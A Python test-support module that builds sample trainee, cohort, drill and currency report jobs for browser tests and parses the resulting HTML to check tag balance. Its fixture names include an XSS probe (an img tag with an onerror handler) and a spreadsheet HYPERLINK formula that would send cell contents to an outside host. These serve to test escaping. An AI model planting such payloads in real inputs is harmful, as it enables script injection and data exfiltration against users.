"""The reports that the browser tests read: every template in three scripts, of a scripted class and a scripted drill."""

from datetime import UTC, date, datetime
from html.parser import HTMLParser

from rightdoor import drills
from rightdoor.reports import jobs, make, record, sample
from rightdoor.text import LANGS

DAY = date(2026, 11, 28)
TEMPLATES = ("trainee", "cohort", "drill", "currency")
EVERY = [(template, lang) for template in TEMPLATES for lang in LANGS]
NAME = '林小雨 <img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"林")'
VOID = {"meta", "link", "img", "br", "hr"}


def asked(book):
    """The Jobs behind `made`."""
    begun = datetime(2026, 11, 7, 9, tzinfo=UTC)
    events, found = sample.of_class(book, "en", begun, 12), {}
    who = max(sample.codes(12), key=lambda code: sum(e.learner == code for e in events))
    walks = list(dict.fromkeys(e.walk for e in events if e.learner == who))[:2]  # short, so that axe is quick
    plan = drills.load("police-lookup", book)
    controls, drilled = sample.of_drill(book, plan, "en", begun, 7)
    for lang in LANGS:
        common = {"lang": lang, "made_on": DAY.isoformat()}
        mine = record.written(e for e in events if e.walk in walks)
        names = {"sample-002": NAME, "sample-003": FORMULA}
        values = {
            "trainee": ({"learner": who, "name": NAME}, mine),
            "cohort": ({"members": 15, "sample": True}, record.written(events)),
            "drill": ({"drill": controls[0].drill, "names": names}, record.written([*controls, *drilled])),
        }
        found |= {(t, lang): make.Job(t, common | extra, text, t) for t, (extra, text) in values.items()}
        found["currency", lang] = jobs.currency(date(2025, 12, 31), DAY, lang)[0]
    return found


class Tree(HTMLParser):
    """All elements as [name, attributes, text directly in it], the whole text, and whether tags are balanced."""

    def __init__(self, html):
        super().__init__()
        self.elements, self.open, self.text = [], [], ""
        self.feed(html)
        assert not self.open, f"not closed: {self.open}"

    def handle_starttag(self, name, attributes):
        self.elements.append([name, dict(attributes), ""])
        if name not in VOID:
            self.open.append((name, self.elements[-1]))

    def handle_endtag(self, name):
        assert name in VOID or self.open.pop()[0] == name, f"</{name}> closes another element"

    def handle_data(self, text):
        if self.open and self.open[-1][0] != "style":
            self.open[-1][1][2] += text
            self.text += text

    def all(self, *names):
        return [e for e in self.elements if e[0] in names]


def tree(made):
    return Tree(made.html.read_text("utf-8"))
